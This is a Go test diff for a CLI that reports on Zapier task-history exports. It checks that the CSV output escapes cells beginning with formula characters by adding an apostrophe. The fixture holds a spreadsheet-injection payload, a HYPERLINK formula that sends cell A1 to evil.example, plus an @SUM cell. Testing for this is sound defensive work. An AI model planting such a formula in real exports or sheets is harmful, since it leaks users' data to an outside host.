@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"flag"
 	"os"
@@ -303,5 +304,44 @@ func TestJSONTimelines(t *testing.T) {
 	}
 	if got := strings.Join(kinds, ","); !strings.HasPrefix(got, "refreshed,rejected") && !strings.HasPrefix(got, "issued,rejected") {
 		t.Errorf("marks = %s, want the token response then the rejection", got)
+	}
+}
+
+// TestCSVFormulaCells: a task-history export whose Zap name, step and
+// connection a customer typed as spreadsheet formulas comes out of the CSV
+// report with those cells starting with an apostrophe, so Excel or Sheets
+// shows them as text instead of running them; the other cells are as they
+// were.
+func TestCSVFormulaCells(t *testing.T) {
+	history := "Task ID,Zap ID,Zap Name,Step,App,Status,Date,Error Message,Connection\n" +
+		`614117096702,412003,"=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",2,Webhooks by Zapier,Errored,2026-03-11T08:20:00Z,"Got 400 calling POST https://api.customer-portal.example/webhook, expected 2xx.",@SUM(1+1)` + "\n"
+	code, out, stderr := runCLI(t, history, "--format", "csv")
+	if code != 0 {
+		t.Fatalf("exit %d: %s", code, stderr)
+	}
+	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(recs) != 2 {
+		t.Fatalf("%d records, want a header and one finding:\n%s", len(recs), out)
+	}
+	row := map[string]string{}
+	for i, name := range recs[0] {
+		row[name] = recs[1][i]
+	}
+	if got := row["zap_title"]; got != `'=HYPERLINK("https://evil.example/?d="&A1,"Open")` {
+		t.Errorf("zap_title = %q, want the formula behind an apostrophe", got)
+	}
+	if got := row["connection"]; !strings.HasPrefix(got, "'@SUM(1+1)") {
+		t.Errorf("connection = %q, want it behind an apostrophe", got)
+	}
+	if row["zap_id"] != "412003" || row["status"] != "400" || row["label"] != "webhook-400" {
+		t.Errorf("plain cells changed: zap_id %q status %q label %q", row["zap_id"], row["status"], row["label"])
+	}
+	for name, v := range row {
+		if strings.ContainsAny(v[:min(1, len(v))], "=+-@") {
+			t.Errorf("%s = %q starts a formula", name, v)
+		}
 	}
 }
